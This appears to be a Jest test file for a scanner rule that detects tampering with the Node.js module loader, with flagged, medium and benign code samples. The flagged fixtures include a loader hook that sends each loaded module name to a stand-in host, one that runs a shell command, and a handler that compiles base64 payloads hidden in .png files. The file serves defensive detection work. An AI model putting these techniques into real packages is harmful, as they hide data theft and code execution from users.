import { describe, expect, it } from '@jest/globals';
import { hitsOf, js } from '../testing/hits-of.ts';

const found = [
  [
    'an alias of require and module in globals',
    `global['!'] = '8-1'; global['r'] = require; if (typeof module === 'object') global['m'] = module;`,
  ],
  [
    'an alias under a name from a table',
    `var t = (function (l) { return shuffle(l); })('rmcej'); global[t[0]] = require;`,
  ],
  [
    'a loader that sends what is loaded',
    `const Module = require('module'); const load = Module._load;
     Module._load = function (id) { require('https').get('https://a.example.invalid/?' + id); return load.apply(this, arguments); };`,
  ],
  [
    'a loader that starts programs, by the prototype',
    `const M = require('node:module'); const was = M.prototype.require; const act = () => require('child_process').exec('id');
     M.prototype.require = function (id) { act(); return was.call(this, id); };`,
  ],
  [
    'an extension that runs what it decodes',
    `require.extensions['.png'] = (module, file) => module._compile(Buffer.from(read(file), 'base64').toString(), file);`,
  ],
] as const;

const lone = [
  [
    'a mock',
    `const Module = require('module'); const load = Module._load; Module._load = (id) => (id === 'a' ? {} : load(id));`,
  ],
  ['a transpiler', `require.extensions['.ts'] = (module, file) => module._compile(transpile(file), file);`],
  ['a module that is put into the cache', `require.cache[require.resolve('a')] = { exports: {} };`],
] as const;

const passed = [
  [
    'a module that is loaded anew',
    `delete require.cache[require.resolve('./a')]; module.exports = require('./a');`,
  ],
  ['a bundle that brings require back', `globalThis.require = require('module').createRequire(__filename);`],
  [
    'reading the cache',
    `const loaded = Object.keys(require.cache).filter((file) => !file.includes('node_modules'));`,
  ],
  [
    'a method of the same name',
    `class Loader { load(id) { return id; } } Loader.prototype.require = function (id) { return this.load(id); };`,
  ],
] as const;

describe('OBF-004 the module loader is changed', () => {
  it.each(found)('finds %s', (_name, source) => {
    expect(hitsOf('OBF-004', js(source))).toEqual(['high index.js']);
  });

  it.each(lone)('reports %s at medium', (_name, source) => {
    expect(hitsOf('OBF-004', js(source))).toEqual(['medium index.js']);
  });

  it.each(passed)('passes %s', (_name, source) => {
    expect(hitsOf('OBF-004', js(source))).toEqual([]);
  });
});
